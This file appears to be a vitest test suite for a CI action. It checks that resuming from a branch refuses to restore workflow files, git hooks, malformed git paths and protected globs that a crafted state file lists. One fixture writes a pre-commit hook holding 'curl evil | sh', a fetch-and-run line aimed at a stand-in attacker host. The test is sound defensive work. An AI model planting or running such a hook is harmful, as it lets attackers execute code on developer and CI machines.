// Resume on CI trusts nothing on the branch: a crafted resume state that lists protected files as a finished
// task's work gets only the files this run could have written itself restored; each refusal is a warning.
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { runnerLog } from '../../src/action/log.js';
import { restorePreviousRun } from '../../src/action/resume-branch.js';
import { createGit } from '../../src/github/git.js';
import { STATE_PATH } from '../../src/run/state.js';
import { commitAll, createSandbox, git, type Sandbox, writeFiles } from '../github-git/repo-helpers.js';

const BRANCH = 'feat/spec-product-price-filter';

let box: Sandbox;
let stdout: string[];

beforeEach(() => {
  box = createSandbox();
  stdout = [];
  // The action's runner protocol (src/action/runner.ts) writes its workflow commands (::warning::) to stdout.
  vi.spyOn(process.stdout, 'write').mockImplementation((chunk: string | Uint8Array) => {
    stdout.push(String(chunk));
    return true;
  });
});

afterEach(() => {
  vi.restoreAllMocks();
  box.cleanup();
});

/** Pushes a branch whose resume state claims `files` as the work of finished tasks; returns its tip. */
function pushCraftedBranch(files: Record<string, string>, claimed: string[][]): string {
  git(box.work, 'checkout', '--quiet', '-b', BRANCH);
  const tasks = Object.fromEntries(
    claimed.map((paths, i) => [
      `task-00${i + 1}`,
      { status: 'success', files: paths.map((path) => ({ path, sha256: 'x' })) },
    ]),
  );
  writeFiles(box.work, { ...files, [STATE_PATH]: JSON.stringify({ schemaVersion: 1, tasks }) });
  const tip = commitAll(box.work, 'previous run');
  git(box.work, 'push', '--quiet', 'origin', BRANCH);
  return tip;
}

const warnings = () => stdout.filter((line) => line.startsWith('::warning::'));

describe('restorePreviousRun re-checks every kept file through the workspace policy', () => {
  it('does not restore .github/workflows/evil.yml listed as a finished task file; restores the rest', async () => {
    const tip = pushCraftedBranch(
      {
        'src/ok.ts': 'export const ok = 1;\n',
        '.github/workflows/evil.yml': 'on: push\njobs: {}\n',
        '.husky/pre-commit': 'curl evil | sh\n',
        // git itself refuses to commit src/.git./x.ts; the state can still name it.
      },
      [
        ['src/ok.ts', '.github/workflows/evil.yml'],
        ['.husky/pre-commit', 'src/.git./x.ts'],
      ],
    );
    const runner = box.clone('runner');

    const restored = await restorePreviousRun(createGit(runner), BRANCH, tip, runnerLog);

    expect(restored).toEqual([STATE_PATH, 'src/ok.ts']);
    expect(readFileSync(join(runner, 'src/ok.ts'), 'utf8')).toBe('export const ok = 1;\n');
    for (const p of ['.github/workflows/evil.yml', '.husky/pre-commit', 'src/.git./x.ts']) {
      expect(existsSync(join(runner, p))).toBe(false);
    }
    const lines = warnings();
    expect(lines).toHaveLength(3);
    expect(lines[0]).toContain('(workflows)');
    expect(lines[0]).toContain('Refused path ".github/workflows/evil.yml"');
    expect(lines[0]).toContain(BRANCH);
    expect(lines[1]).toContain('(tool-config)');
    expect(lines[2]).toContain('(git-name)');
    // Nothing refused reached the index either: only what the caller adds is committed.
    expect(git(runner, 'status', '--porcelain', '--untracked-files=all').split('\n').sort()).toEqual(
      ['', '?? .implement-spec/state.json', '?? src/ok.ts'].sort(),
    );
  });

  it("applies the run's own protected globs when given", async () => {
    const tip = pushCraftedBranch({ 'infra/main.tf': 'x\n', 'src/a.ts': 'a\n' }, [
      ['infra/main.tf', 'src/a.ts'],
    ]);
    const runner = box.clone('runner');
    const restored = await restorePreviousRun(createGit(runner), BRANCH, tip, runnerLog, {
      protectedGlobs: ['infra/**'],
    });
    expect(restored).toEqual([STATE_PATH, 'src/a.ts']);
    expect(warnings()).toHaveLength(1);
    expect(warnings()[0]).toContain('(protected)');
  });
});
